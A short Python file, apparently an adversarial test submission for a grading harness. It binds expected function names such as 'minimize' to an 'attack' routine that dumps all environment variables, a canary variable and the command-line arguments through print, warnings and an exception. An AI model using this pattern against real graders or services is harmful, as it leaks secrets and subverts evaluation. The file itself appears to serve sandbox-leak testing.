"""Report the grader's environment in every way that a submission can."""

import ctypes
import os
import sys
import warnings

libc = ctypes.CDLL(None)
libc.getenv.restype = ctypes.c_char_p


def attack(*args, **kwargs):
    text = f"{dict(os.environ)} {libc.getenv(b'ATTACKERS_WANT')} {sys.argv} {sys.orig_argv}"
    print(text)
    warnings.warn(text, stacklevel=1)
    raise RuntimeError(text)


derivative_at = accumulate_gradients = halving_chain = minimize = attack
